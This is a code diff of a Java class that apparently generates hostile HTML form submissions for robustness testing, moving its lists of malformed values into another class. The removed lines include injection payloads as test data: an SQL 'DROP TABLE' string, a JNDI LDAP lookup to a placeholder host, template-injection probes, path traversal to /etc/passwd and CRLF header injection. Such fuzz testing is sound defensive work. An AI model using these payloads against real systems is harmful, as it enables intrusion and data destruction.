@@ -116,12 +116,6 @@ final class HostileForms {
       Pattern.compile(
           "<input[^>]*type=\"hidden\"[^>]*name=\"([^\"]+)\"[^>]*value=\"([^\"]*)\"[^>]*>");
 
-  /** Values typed where text is expected: each already percent-encoded, named for the report. */
-  private static final Map<String, String> ODD_VALUES = oddValues();
-
-  private static final List<String> ADDED_NAMES =
-      List.of("id", "caseId", "version", "status", "role", "assignee", "_method", "__proto__", "x");
-
   private static final List<String> PATH_VALUES =
       List.of(
           "none",
@@ -195,7 +189,7 @@ final class HostileForms {
     int kind = random.nextInt(fields.isEmpty() ? 3 : 7);
     String what;
     if (kind == 0) {
-      String name = pick(ADDED_NAMES);
+      String name = pick(HostileFormText.ADDED_NAMES);
       Map.Entry<String, String> value = oddValue();
       fields.add(new Field(encode(name), value.getValue()));
       what = "+" + name + "=" + value.getKey();
@@ -243,7 +237,7 @@ final class HostileForms {
                   + value.getKey();
         }
         default -> {
-          String wrong = pick(WRONG_TYPES);
+          String wrong = pick(HostileFormText.WRONG_TYPES);
           fields.set(at, new Field(chosen.name(), encode(wrong)));
           what = chosen.name() + "=" + abbreviate(wrong) + " (wrong type)";
         }
@@ -257,29 +251,6 @@ final class HostileForms {
         Expected.ANY,
         what);
   }
-
-  private static final List<String> WRONG_TYPES =
-      List.of(
-          "-1",
-          "0",
-          "1e309",
-          "NaN",
-          "true",
-          "null",
-          "[]",
-          "{}",
-          "yes ",
-          "YES",
-          "maybe",
-          "accepted",
-          "32",
-          "13",
-          "-2026",
-          "２０２６",
-          "٣",
-          "0x1F",
-          "99999999999999999999",
-          "2026-02-30");
 
   // --- the anti-forgery token -----------------------------------------------------------------
 
@@ -608,7 +579,7 @@ final class HostileForms {
   }
 
   private Map.Entry<String, String> oddValue() {
-    List<Map.Entry<String, String>> values = new ArrayList<>(ODD_VALUES.entrySet());
+    List<Map.Entry<String, String>> values = new ArrayList<>(HostileFormText.ODD_VALUES.entrySet());
     return values.get(random.nextInt(values.size()));
   }
 
@@ -626,40 +597,5 @@ final class HostileForms {
 
   private static String abbreviate(String text) {
     return text.length() > 40 ? text.substring(0, 40) + "…(" + text.length() + ")" : text;
-  }
-
-  /**
-   * The values a field is given, percent-encoded: the kinds {@link HostileRequests} gives a JSON
-   * field, in a form's terms (a form has no types but text, so a "wrong type" is text that is not
-   * the answer a radio or a date box offers).
-   */
-  private static Map<String, String> oddValues() {
-    Map<String, String> values = new LinkedHashMap<>();
-    values.put("5,001 letters", encode("x".repeat(5_001)));
-    values.put("5,001 accented letters", encode("é".repeat(5_001)));
-    values.put("100,000 letters", encode("x".repeat(100_000)));
-    values.put("2.2 MB of letters", "x".repeat(2_200_000));
-    values.put("control characters", encode("\u0001\u0007\u001b[2J\u007f"));
-    values.put("CR LF", encode("a\r\nSet-Cookie: x=1"));
-    values.put("a NUL", encode("\u0000"));
-    values.put("a NUL inside", encode("Waiting\u0000for records"));
-    values.put("blank", encode("   \u00a0\u2003"));
-    values.put("empty", "");
-    values.put("right-to-left override", encode("\u202Eevil\u202C"));
-    values.put("zero-width characters", encode("\u200B\u200C\u200D\uFEFF"));
-    values.put("emoji and combining marks", encode("😀👩‍👩‍👧 e\u0301\u0301\u0301"));
-    values.put("a surrogate in UTF-8", "%ED%A0%80");
-    values.put("an overlong NUL", "%C0%80");
-    values.put("bytes that are not UTF-8", "%FF%FE");
-    values.put("a cut UTF-8 sequence", "%E2%82");
-    values.put("a bare percent", "%");
-    values.put("a bad escape", "%zz");
-    values.put("fullwidth digits", encode("１２３"));
-    values.put("markup", encode(HostileText.full("f01", "field").value()));
-    values.put("SQL", encode("'; DROP TABLE complaint; --"));
-    values.put("JNDI lookup", encode("${jndi:ldap://example.invalid/x}"));
-    values.put("template tags", encode("#{7*7}{{7*7}}"));
-    values.put("path traversal", encode("../../../../etc/passwd"));
-    return values;
   }
 }
